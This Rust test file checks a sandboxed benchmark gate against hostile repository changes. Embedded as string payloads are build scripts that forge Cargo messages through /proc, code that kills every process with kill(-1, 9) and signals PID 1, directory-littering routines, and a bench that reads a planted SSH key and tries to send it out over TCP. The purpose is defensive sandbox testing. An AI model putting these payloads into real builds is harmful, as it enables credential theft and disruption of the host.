//! What the gate does not let a change do at any level of isolation, so that there is no unprotected
//! half to win; and what it makes of changes that turn on their own sandbox.

use std::{fs, path::Path};

use super::{
    BUBBLEWRAP,
    arena::{Arena, DEADLINE, Level, ended, files},
    not_run::needs,
    ways::ADD,
};
use crate::support::bench_double::source;

/// An arena with an honest base; none where this host lacks the sandbox.
fn arena(name: &str, level: Level) -> Option<Arena> {
    if level == Level::Full && !needs(name, &["bwrap", "--version"], BUBBLEWRAP) {
        return None;
    }
    let arena = Arena::new(level);
    arena.honest();
    arena.repository.commit("Begin");
    Some(arena)
}

/// Runs, and checks that there is a verdict, and that nothing of the run grew beyond reason.
#[track_caller]
fn judged(arena: &Arena) -> String {
    let ended = arena.run();
    assert!(!ended.hung && arena.judged(), "{ended:?}");
    for file in files(&arena.repository.beside("out")) {
        let bytes = fs::metadata(&file).unwrap().len();
        assert!(bytes < 4 << 20, "{} has {bytes} bytes", file.display());
    }
    ended.said
}

/// The double, which does this first.
fn bench_that(does: &str) -> String {
    source(ADD).replace("fn main() {", &format!("fn main() {{\n{does}\n"))
}

#[test]
fn more_benchmarks_than_anybody_waits_for_are_not_taken_down() {
    let Some(arena) = arena("names", Level::None) else { return };
    let list = "    for number in 0..120_000 {\n        println!(\"{number}{}: benchmark\", \"x\".repeat(90));\n    }";
    arena.repository.write("benches/speed.rs", &bench_that(list)).commit("Name them");
    assert!(judged(&arena).contains("more than 4096 benchmarks"));
}

#[test]
fn a_line_without_an_end_is_quoted_in_part() {
    let Some(arena) = arena("lines", Level::None) else { return };
    let shout = "    if env::args().all(|arg| arg != \"--list\") {\n        eprintln!(\"{}\", \"x\".repeat(15 << 20));\n        std::process::exit(1);\n    }";
    arena.repository.write("benches/speed.rs", &bench_that(shout)).commit("Shout");
    assert!(judged(&arena).contains("exit code 1"));
    let shout = "fn main() {\n    eprintln!(\"error: {}\", \"x\".repeat(30 << 20));\n    std::process::exit(1);\n}\n";
    arena.repository.write("build.rs", shout).commit("Shout earlier");
    assert!(judged(&arena).contains("do not build"));
}

#[test]
fn samples_of_a_bench_that_says_too_much_are_not_read() {
    for (slices, said) in [(1001, "more than 1000 slices"), (400_000, "more than 1048576 bytes")] {
        let Some(arena) = arena("samples", Level::None) else { return };
        let bench = source(ADD).replace("0..20", &format!("0..{slices}"));
        let bench = bench.replace("vec![\"2.0\"; 20]", &format!("vec![\"2.0\"; {slices}]"));
        arena.repository.write("benches/speed.rs", &bench).commit("Measure longer");
        let told = judged(&arena).split_whitespace().collect::<Vec<_>>().join(" ");
        assert!(told.contains(said), "{told}");
    }
}

#[test]
fn a_sample_that_is_a_pipe_is_not_waited_for() {
    let Some(arena) = arena("pipe", Level::None) else { return };
    let pipe = "let made = folder.join(\"sample.json\");\n    \
        let made = std::ffi::CString::new(made.to_str().unwrap()).unwrap();\n    \
        unsafe { mkfifo(made.as_ptr(), 0o666) };\n}\n\
        extern \"C\" { fn mkfifo(path: *const std::ffi::c_char, mode: u32) -> i32; }\n";
    let honest = source(ADD);
    let (before, _) = honest.split_once("    fs::write(folder.join(\"sample.json\")").unwrap();
    arena.repository.write("benches/speed.rs", &format!("{before}    {pipe}"));
    arena.repository.commit("Write differently");
    assert!(judged(&arena).contains("it measured nothing"));
}

#[test]
fn an_executable_is_taken_once_and_from_the_target_folder_alone() {
    let Some(arena) = arena("messages", Level::None) else { return };
    let script = arena.payload(
        Path::new("/bin/true"),
        "
fn attack() {
    let manifest = std::env::var(\"CARGO_MANIFEST_DIR\").unwrap() + \"/Cargo.toml\";
    let message = format!(
        \"\n{{\\\"reason\\\":\\\"compiler-artifact\\\",\\\"manifest_path\\\":{manifest:?},\\\"executable\\\":{TARGET:?},\
         \\\"target\\\":{{\\\"name\\\":\\\"speed\\\",\\\"kind\\\":[\\\"bench\\\"]}}}}\n\"
    );
    let cargo = std::os::unix::process::parent_id();
    let messages = fs::OpenOptions::new().write(true).open(format!(\"/proc/{cargo}/fd/1\"));
    let _ = messages.and_then(|mut file| file.write_all(message.repeat(1000).as_bytes()));
}
fn main() {
    attack();
}
",
    );
    arena.repository.write("build.rs", &script).commit("Generate code");
    assert!(judged(&arena).contains("outside of the target folder"));
}

#[test]
fn what_is_no_executable_has_not_measured() {
    let Some(arena) = arena("no executable", Level::None) else { return };
    let script = "use std::{fs, path::PathBuf};\n\
        fn main() {\n    let out = PathBuf::from(std::env::var(\"OUT_DIR\").unwrap());\n    \
        let deps = out.ancestors().nth(3).unwrap().join(\"deps\");\n    \
        fs::write(deps.join(\"speed-0\"), \"no program\").unwrap();\n    \
        let manifest = std::env::var(\"CARGO_MANIFEST_DIR\").unwrap() + \"/Cargo.toml\";\n    \
        let message = format!(\"\\n{{\\\"reason\\\":\\\"compiler-artifact\\\",\\\"manifest_path\\\":{manifest:?},\\\"executable\\\":{:?},\\\"target\\\":{{\\\"name\\\":\\\"speed\\\",\\\"kind\\\":[\\\"bench\\\"]}}}}\\n\", deps.join(\"speed-0\"));\n    \
        let cargo = std::os::unix::process::parent_id();\n    \
        fs::write(format!(\"/proc/{cargo}/fd/1\"), message).unwrap();\n}\n";
    arena.repository.write("build.rs", script).commit("Generate code");
    assert!(judged(&arena).contains("failed start"));
}

/// Another ABI has other numbers for the calls that are refused; a kernel without it says that it
/// does not know them, and never gets to.
#[cfg(target_arch = "x86_64")]
#[test]
fn calls_of_another_abi_are_refused() {
    let Some(arena) = arena("x32", Level::Full) else { return };
    let attack = "
extern \"C\" {
    fn syscall(number: i64, ...) -> i64;
}
fn attack() {
    const GETPID: i64 = 0x4000_0000 + 39;
    let said = unsafe { syscall(GETPID) };
    eprintln!(\"said {said}, {:?}\", std::io::Error::last_os_error().raw_os_error());
}
";
    arena.bench(Path::new(""), attack);
    assert!(judged(&arena).contains("said -1, Some(1)"));
}

/// Leaves a chain of folders that no path can name, and folders that only root may enter.
const LITTER: &str = "
extern \"C\" {
    fn chdir(path: *const std::ffi::c_char) -> i32;
    fn mkdir(path: *const std::ffi::c_char, mode: u32) -> i32;
    fn chmod(path: *const std::ffi::c_char, mode: u32) -> i32;
}
fn litter(folder: std::path::PathBuf, depth: u32) {
    std::fs::create_dir_all(folder.join(\"closed/inner\")).unwrap();
    let at = |path: &std::path::Path| std::ffi::CString::new(path.to_str().unwrap()).unwrap();
    unsafe {
        chdir(at(&folder).as_ptr());
        for _ in 0..depth {
            mkdir(c\"d\".as_ptr(), 0o755);
            chdir(c\"d\".as_ptr());
        }
        for closed in [\"closed/inner\", \"closed\"] {
            chmod(at(&folder.join(closed)).as_ptr(), 0);
        }
    }
}
";

#[test]
fn what_a_build_leaves_is_removed_however_deep_it_lies() {
    for level in [Level::None, Level::Full] {
        let Some(arena) = arena("deep folders", level) else { return };
        let script = format!(
            "{LITTER}\nfn main() {{\n    litter(std::env::var(\"OUT_DIR\").unwrap().into(), 2500);\n}}\n"
        );
        arena.repository.write("build.rs", &script).commit("Generate code");
        judged(&arena);
        assert_eq!(arena.pair_state().as_deref(), Some("held"), "{level:?}");
        assert!(!arena.home_of_repository().join("target").exists());
        arena.repository.remove("build.rs").commit("Go on");
        // The base is the change that litters.
        judged(&arena);
    }
}

#[test]
fn what_a_bench_leaves_is_not_in_the_way_of_the_next() {
    for level in [Level::None, Level::Landlock, Level::Full] {
        let Some(arena) = arena("closed folders", level) else { return };
        // Whoever lists closes the folder of temporary files itself.
        let bench = bench_that(
            "    litter(env::temp_dir(), 100);\n    \
             if env::args().any(|arg| arg == \"--list\") {\n        \
             let own = std::ffi::CString::new(env::temp_dir().to_str().unwrap()).unwrap();\n        \
             unsafe { chmod(own.as_ptr(), 0) };\n    }",
        );
        let bench = format!("{LITTER}\n{bench}");
        arena.repository.write("benches/speed.rs", &bench).commit("Litter");
        let other = bench.replace("100.0", "100.5");
        arena.repository.write("benches/speed.rs", &other).commit("Measure again");
        judged(&arena);
        assert_eq!(arena.pair_state().as_deref(), Some("held"), "{level:?}");
    }
}

/// Whatever can end a first process: from inside, a signal that it handles.
const MURDER: &str = "
extern \"C\" {
    fn kill(pid: i32, signal: i32) -> i32;
    fn syscall(number: i64, ...) -> i64;
}
fn murder() {
    const QUEUE: i64 = if cfg!(target_arch = \"aarch64\") { 138 } else { 129 };
    for signal in (1..=64).chain(1..=64) {
        // What a fault looks like, with an address of our choice.
        let mut about = [0i32; 32];
        (about[0], about[2]) = (signal, -1);
        unsafe {
            syscall(QUEUE, 1i64, i64::from(signal), about.as_ptr());
            kill(1, signal);
        }
    }
    unsafe { kill(-1, 9) };
}
";

#[test]
fn a_change_that_turns_on_its_own_sandbox_is_judged() {
    let Some(arena) = arena("murder", Level::Full) else { return };
    let bench = format!("{MURDER}\n{}", bench_that("    murder();"));
    arena.repository.write("benches/speed.rs", &bench).commit("Kill");
    judged(&arena);
    let script = format!("{MURDER}\nfn main() {{\n    murder();\n}}\n");
    arena.repository.write("build.rs", &script).commit("Kill earlier");
    judged(&arena);
}

#[test]
fn at_landlock_no_home_is_read_and_no_tcp_is_spoken() {
    let arena = Arena::new(Level::Landlock);
    let key = arena.path("home/.ssh/id_ed25519");
    arena.plant(&key);
    let attack = "
fn attack() {
    hunt(&fs::read(TARGET).unwrap_or_default());
    if TcpStream::connect(TCP).is_ok() {
        tell(&prize());
    }
}
";
    arena.bench(&key, attack);
    let landlock = [
        "/bin/sh",
        "-c",
        "! [ -e /sys/kernel/security/lsm ] || grep -q landlock /sys/kernel/security/lsm",
    ];
    if !needs("landlock", &landlock, "boot with lsm=landlock,…") {
        return;
    }
    let ended = ended(arena.t5().spawn(), DEADLINE);
    assert!(arena.reached(&ended), "{ended:?}");
    assert_eq!(arena.stolen(&ended), None);
}
